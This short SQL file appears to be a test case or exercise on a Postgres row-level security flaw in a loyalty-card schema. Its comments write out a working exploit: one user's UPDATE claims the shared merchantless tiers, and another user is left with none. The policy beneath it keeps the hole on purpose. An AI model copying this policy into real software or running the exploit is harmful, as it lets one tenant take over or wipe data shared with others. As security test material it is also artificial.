-- The check asks for the own merchant, but an update may take the rows of nobody and make them one
-- merchant's own; all the others lose them.
-- about: tiers
-- as: hf_stampcard_app
-- exploit: SET request.jwt.claims = '{"sub":"u-ann","role":"authenticated"}';
-- exploit: UPDATE loyal.tiers SET merchant_id = 1;
-- exploit: SET request.jwt.claims = '{"sub":"u-bob"}';
-- exploit: SELECT 'tiers left: ' || count(*) AS r FROM loyal.tiers;
-- shows: tiers left: 0
-- Standard tiers come with the product and have no merchant.
CREATE TABLE loyal.tiers (
  id integer PRIMARY KEY,
  merchant_id bigint REFERENCES loyal.merchants,
  name text NOT NULL
);
INSERT INTO loyal.tiers VALUES (1, NULL, 'Silver'), (2, NULL, 'Gold');
ALTER TABLE loyal.tiers ENABLE ROW LEVEL SECURITY;
ALTER TABLE loyal.tiers FORCE ROW LEVEL SECURITY;
CREATE POLICY staff ON loyal.tiers USING (merchant_id IS NULL OR loyal.works_at(merchant_id))
  WITH CHECK (loyal.works_at(merchant_id));
GRANT SELECT, UPDATE ON loyal.tiers TO hf_stampcard_app;
